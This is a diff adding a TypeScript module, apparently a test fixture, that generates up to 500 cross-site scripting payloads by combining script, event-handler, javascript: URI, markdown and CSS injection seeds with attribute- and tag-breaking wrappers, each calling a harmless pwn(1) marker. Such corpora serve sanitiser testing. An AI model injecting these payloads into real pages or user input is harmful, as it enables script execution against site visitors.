@@ -1,0 +1,67 @@
+const call = 'pwn(1)';
+
+/** Texts that call `pwn` in a page that does not treat them as plain text. */
+const seeds: readonly string[] = [
+  `<script>${call}</script>`,
+  `<img src=x onerror=${call}>`,
+  `<svg onload=${call}>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>parent.${call}</script>">`,
+  `<iframe src="javascript:parent.${call}">`,
+  `<body onload=${call}>`,
+  `<input autofocus onfocus=${call}>`,
+  `<details open ontoggle=${call}>`,
+  `<video><source onerror=${call}></video>`,
+  `<object data="javascript:${call}">`,
+  `<embed src="javascript:${call}">`,
+  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
+  `<a href="javascript:${call}">x</a>`,
+  `<style>@import 'javascript:${call}';</style>`,
+  `<link rel=stylesheet href="javascript:${call}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  `java\nscript:${call}`,
+  `\u0001javascript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
+  `vbscript:${call}`,
+  `[x](javascript:${call})`,
+  `[x](JAVASCRIPT:${call})`,
+  `[x](data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=)`,
+  `![x](x" onerror="${call})`,
+  `![x](javascript:${call})`,
+  `[x](https://a.example/"onmouseover="${call})`,
+  `https://a.example/"onmouseover="${call}`,
+  `<https://a.example/" onclick=${call}>`,
+  `red;background:url(javascript:${call})`,
+  `#fff}*{background:url("javascript:${call}")`,
+  `expression(${call})`,
+  `{{constructor.constructor('${call}')()}}`,
+  `\${${call}}`,
+  `${call}`,
+  `<marquee onstart=${call}>`,
+  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${call}>`,
+];
+
+/** Wraps a seed to break out of attributes, tags and comments. */
+const frames: readonly ((seed: string) => string)[] = [
+  (seed) => seed,
+  (seed) => `">${seed}`,
+  (seed) => `'>${seed}`,
+  (seed) => `--></title></textarea></style></script>${seed}`,
+  (seed) => `**${seed}**`,
+  (seed) => `\`${seed}\``,
+  (seed) => `- ${seed}`,
+  (seed) => `1. ${seed}`,
+  (seed) => `]]>${seed}`,
+  (seed) => seed.replaceAll('<', '&lt;'),
+  (seed) => seed.replaceAll('<', '\\u003c'),
+  (seed) => `[${seed}](https://a.example/?${seed})`,
+  (seed) => `" onfocus=${call} autofocus x="${seed}`,
+  (seed) => `\u202e${seed}`,
+];
+
+export const hostileTexts: readonly string[] = [
+  ...new Set(frames.flatMap((frame) => seeds.map((seed) => frame(seed)))),
+].slice(0, 500);
